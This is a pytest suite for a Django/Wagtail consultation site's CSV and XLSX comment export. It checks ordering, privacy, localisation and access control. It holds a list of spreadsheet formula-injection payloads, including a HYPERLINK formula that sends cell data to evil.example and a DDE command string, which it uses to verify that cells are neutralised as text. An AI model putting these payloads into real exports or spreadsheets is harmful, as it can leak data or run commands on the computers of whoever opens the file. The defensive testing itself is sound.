"""An organiser or a moderator downloads a consultation's published comments as CSV or XLSX from the admin:
one row per comment in thread order, numbered, never an address; text that a spreadsheet would run is
neutralised; bad requests get a 404 or a 403, never a 500."""

import datetime
import io
import re

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook
from wagtail.models import Page
from wagtail.users.models import UserProfile

from consultations.exports.tests.reading import body, export_rows
from consultations.factories import ConsultationCommentFactory
from consultations.models import CommentSupport, ConsultationComment, ConsultationPage
from consultations.moderation.links import export_url

pytestmark = pytest.mark.django_db
State = ConsultationComment.State
FORMATS = ["csv", "xlsx"]
HEADER = [
    "Position",
    "Replies to",
    "Pseudonym",
    "Date",
    "Language",
    "Text",
    "Supports",
    "Published replies",
    "Community manager replied",
    "Community manager's reply",
    "Organisers' answer",
]
START = datetime.datetime(2026, 3, 2, 9, 30, tzinfo=datetime.UTC)


def comment(page, minutes, **fields):
    return ConsultationCommentFactory(
        page=page, submit_date=START + datetime.timedelta(minutes=minutes), **fields
    )


@pytest.fixture
def conversation(consultation):
    """Three threads: a published one with replies (one still pending), a removed comment whose published reply
    stays on the page under a placeholder, and one the community manager answered."""
    first = comment(
        consultation, 0, user_name="Alice", comment="More benches.", user_email="alice@example.org"
    )
    CommentSupport.objects.bulk_create(
        [CommentSupport(comment=first, reader_key="r1"), CommentSupport(comment=first, reader_key="r2")]
    )
    answer = comment(consultation, 1, parent=first, user_name="Bob", comment="And shade.", language="fr")
    comment(consultation, 2, parent=answer, user_name="Chloé", comment="Yes!")
    comment(consultation, 3, parent=first, user_name="Pending", comment="Not yet read.", state=State.PENDING)
    removed = comment(consultation, 4, user_name="Troll", comment="Insults.", state=State.REMOVED)
    comment(consultation, 5, parent=removed, user_name="Dina", comment="Please stay polite.")
    question = comment(consultation, 6, user_name="Eli", comment="When does it open?")
    comment(
        consultation,
        7,
        parent=question,
        user_name="",
        is_community_manager=True,
        comment="In June.",
        user_email="manager@example.org",
    )
    return consultation


def local(minutes):
    return timezone.localtime(START + datetime.timedelta(minutes=minutes)).isoformat()


@pytest.mark.parametrize("file_format", FORMATS)
def test_a_moderator_downloads_the_published_comments_numbered_in_thread_order(
    moderator_client, conversation, file_format
):
    rows = export_rows(moderator_client.get(export_url(conversation.pk, file_format)), file_format)

    assert rows == [
        HEADER,
        ["1", "", "Alice", local(0), "en", "More benches.", "2", "1", "no", "no", ""],
        ["1.1", "1", "Bob", local(1), "fr", "And shade.", "0", "1", "no", "no", ""],
        ["1.1.1", "1.1", "Chloé", local(2), "en", "Yes!", "0", "0", "no", "no", ""],
        # Its comment was removed: it is numbered as a thread of its own.
        ["2", "", "Dina", local(5), "en", "Please stay polite.", "0", "0", "no", "no", ""],
        ["3", "", "Eli", local(6), "en", "When does it open?", "0", "1", "yes", "no", ""],
        ["3.1", "3", "Community manager", local(7), "en", "In June.", "0", "0", "no", "yes", ""],
    ]


def test_dates_are_iso_8601_with_the_sites_time_zone(moderator_client, conversation):
    rows = export_rows(moderator_client.get(export_url(conversation.pk, "csv")), "csv")

    assert rows[1][3] == "2026-03-02T10:30:00+01:00"


@pytest.mark.parametrize("file_format", FORMATS)
def test_no_address_author_key_or_unpublished_text_leaves_in_the_file(
    moderator_client, conversation, file_format
):
    content = body(moderator_client.get(export_url(conversation.pk, file_format)))
    if file_format == "xlsx":
        text = " ".join(" ".join(row) for row in export_rows_from(content))
    else:
        text = content.decode("utf-8")
    keys = ConsultationComment.objects.for_page(conversation).values_list("author_key", flat=True)

    assert "@example.org" not in text
    assert "Troll" not in text and "Insults" not in text and "Not yet read" not in text
    assert all(key and key not in text for key in keys)


def export_rows_from(content):
    sheet = load_workbook(io.BytesIO(content), read_only=True).worksheets[0]
    return [[str(value or "") for value in row] for row in sheet.iter_rows(values_only=True)]


HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1",
    "\r=1",
    "-2+3",
    "   =1+1",
]


@pytest.mark.parametrize("file_format", FORMATS)
def test_pseudonyms_and_texts_a_spreadsheet_would_run_are_written_as_text(
    moderator_client, consultation, file_format
):
    for minutes, hostile in enumerate(HOSTILE):
        comment(consultation, minutes, user_name=hostile[:50], comment=f"{hostile} is my text")

    rows = export_rows(moderator_client.get(export_url(consultation.pk, file_format)), file_format)[1:]

    # XML (so XLSX) reads a carriage return as a line feed: what matters is the apostrophe before it.
    as_read = (lambda text: text) if file_format == "csv" else (lambda text: text.replace("\r", "\n"))
    assert [row[2] for row in rows] == [as_read("'" + hostile[:50]) for hostile in HOSTILE]
    assert [row[5] for row in rows] == [as_read(f"'{hostile} is my text") for hostile in HOSTILE]


def test_no_cell_of_the_workbook_is_a_formula(moderator_client, consultation):
    for minutes, hostile in enumerate(HOSTILE):
        comment(consultation, minutes, user_name=hostile[:50], comment=hostile)

    content = body(moderator_client.get(export_url(consultation.pk, "xlsx")))
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]

    assert {cell.data_type for row in sheet.iter_rows() for cell in row} <= {"s", "inlineStr", "n"}


@pytest.mark.parametrize("file_format", FORMATS)
def test_emoji_right_to_left_text_and_line_breaks_stay_in_their_cell(
    moderator_client, consultation, file_format
):
    texts = [
        "Plus d'arbres 🌳🌳, s'il vous plaît",
        "مساحة للشباب\nسطر ثان",
        "Line one\nline two\r\nline three",
    ]
    for minutes, text in enumerate(texts):
        comment(consultation, minutes, user_name="Ünïcødé 🦉", comment=text)

    rows = export_rows(moderator_client.get(export_url(consultation.pk, file_format)), file_format)

    assert len(rows) == 4
    expected = texts if file_format == "csv" else [text.replace("\r\n", "\n") for text in texts]
    assert [row[5].replace("\r\n", "\n") for row in rows[1:]] == [
        text.replace("\r\n", "\n") for text in expected
    ]
    assert {row[2] for row in rows[1:]} == {"Ünïcødé 🦉"}


@pytest.mark.parametrize("file_format", FORMATS)
def test_a_consultation_without_comments_exports_the_header_only(moderator_client, consultation, file_format):
    comment(consultation, 0, state=State.PENDING)

    assert export_rows(moderator_client.get(export_url(consultation.pk, file_format)), file_format) == [
        HEADER
    ]


@pytest.mark.parametrize("file_format", FORMATS)
def test_the_file_is_named_for_the_consultation_and_the_day(moderator_client, consultation, file_format):
    response = moderator_client.get(export_url(consultation.pk, file_format))

    today = timezone.localdate().isoformat()
    assert f'filename="youth-space-comments-{today}.{file_format}"' in response["Content-Disposition"]
    assert response["Content-Disposition"].startswith("attachment")
    assert "no-store" in response["Cache-Control"]


@pytest.mark.parametrize("file_format", FORMATS)
def test_the_header_speaks_the_moderators_admin_language(
    moderator_client, moderator_user, conversation, file_format
):
    profile = UserProfile.get_for_user(moderator_user)
    profile.preferred_language = "fr"
    profile.save()

    rows = export_rows(moderator_client.get(export_url(conversation.pk, file_format)), file_format)

    assert rows[0] == [
        "Position",
        "Répond à",
        "Pseudonyme",
        "Date",
        "Langue",
        "Texte",
        "Soutiens",
        "Réponses publiées",
        "Réponse de l'animateur·rice",
        "Écrit par l'animateur·rice",
        "Réponse des organisateurs",
    ]
    assert rows[5][8:] == ["oui", "non", ""]
    assert rows[6][2] == "Animateur·rice"


@pytest.fixture
def park(demo_content):
    english = ConsultationPage.objects.get(slug="youth-space-parc-des-berges")
    return english, ConsultationPage.objects.get(
        translation_key=english.translation_key, locale__language_code="fr"
    )


@pytest.mark.parametrize("file_format", FORMATS)
def test_a_translation_exports_the_whole_conversation(moderator_client, park, file_format):
    english, french = park
    from_english = export_rows(moderator_client.get(export_url(english.pk, file_format)), file_format)
    from_french = export_rows(moderator_client.get(export_url(french.pk, file_format)), file_format)

    published = ConsultationComment.objects.for_page(english).filter(state=State.PUBLISHED)
    assert from_french == from_english
    assert len(from_english) - 1 == published.count() > 0
    assert {row[4] for row in from_english[1:]} == {"en", "fr"}


def not_found(client, path):
    """A 404 under /admin/ first redirects to the same address under /en/ (LocaleMiddleware: Wagtail's page
    route matches any address there), which answers 404."""
    response = client.get(path, follow=True)
    return response.status_code == 404 and not response.has_header("Content-Disposition")


@pytest.mark.parametrize(
    "path",
    [
        "/admin/consultations/0/comments/csv/",
        "/admin/consultations/99999999/comments/csv/",
        "/admin/consultations/9223372036854775808/comments/csv/",
        "/admin/consultations/99999999999999999999999/comments/xlsx/",
        "/admin/consultations/-1/comments/csv/",
    ],
)
def test_an_unknown_or_impossible_id_is_not_found(moderator_client, consultation, path):
    assert not_found(moderator_client, path)


def test_a_page_that_is_not_a_consultation_is_not_found(moderator_client, site_tree):
    home = Page.objects.get(depth=2, locale__language_code="en")

    assert not_found(moderator_client, export_url(home.pk, "csv"))


@pytest.mark.parametrize("file_format", ["pdf", "CSV", "csv.exe", "xlsx%00"])
def test_an_unknown_format_is_not_found(moderator_client, consultation, file_format):
    path = f"/admin/consultations/{consultation.pk}/comments/{file_format}/"

    assert not_found(moderator_client, path)


def test_an_editor_who_may_not_moderate_is_refused(client, editor_user, conversation):
    client.force_login(editor_user)
    response = client.get(export_url(conversation.pk, "csv"))

    assert response.status_code == 403
    assert "Alice" not in response.content.decode()


def test_an_anonymous_visitor_is_sent_to_the_login(client, conversation):
    response = client.get(export_url(conversation.pk, "xlsx"))

    assert response.status_code == 302
    assert response["Location"].startswith(reverse("wagtailadmin_login"))


def test_the_export_is_read_only(moderator_client, conversation):
    assert moderator_client.post(export_url(conversation.pk, "csv")).status_code == 405
    assert moderator_client.head(export_url(conversation.pk, "csv")).status_code == 200


def download_links(html):
    return set(re.findall(r'href="(/admin/consultations/\d+/comments/(?:csv|xlsx)/)"', html))


def test_the_consultations_edit_view_offers_both_downloads_to_an_organiser(admin_client, consultation):
    html = admin_client.get(reverse("wagtailadmin_pages:edit", args=[consultation.pk])).content.decode()

    assert download_links(html) == {export_url(consultation.pk, "csv"), export_url(consultation.pk, "xlsx")}
    assert "Download comments (CSV)" in html


def test_the_page_listing_offers_the_downloads_of_each_consultation(admin_client, consultation, site_tree):
    html = admin_client.get(
        reverse("wagtailadmin_explore", args=[site_tree.consultations.pk])
    ).content.decode()

    assert export_url(consultation.pk, "xlsx") in download_links(html)


def test_an_editor_sees_no_download(client, editor_user, consultation):
    client.force_login(editor_user)
    html = client.get(reverse("wagtailadmin_pages:edit", args=[consultation.pk])).content.decode()

    assert download_links(html) == set()


def test_the_queue_filtered_by_a_consultation_offers_its_downloads(moderator_client, conversation):
    html = moderator_client.get(f"/admin/moderation/?consultation={conversation.pk}").content.decode()
    unfiltered = moderator_client.get("/admin/moderation/").content.decode()

    assert download_links(html) == {export_url(conversation.pk, "csv"), export_url(conversation.pk, "xlsx")}
    assert download_links(unfiltered) == set()


def test_a_control_character_dropped_from_a_workbook_cell_uncovers_no_formula():
    from consultations.exports.files import xlsx_file

    output = xlsx_file(["Text"], [['\x01=HYPERLINK("https://evil.example")'], ["\x02\x03+1+1"]], title="t")
    sheet = load_workbook(output).active
    values = [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)]

    assert values == ['\'=HYPERLINK("https://evil.example")', "'+1+1"]
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
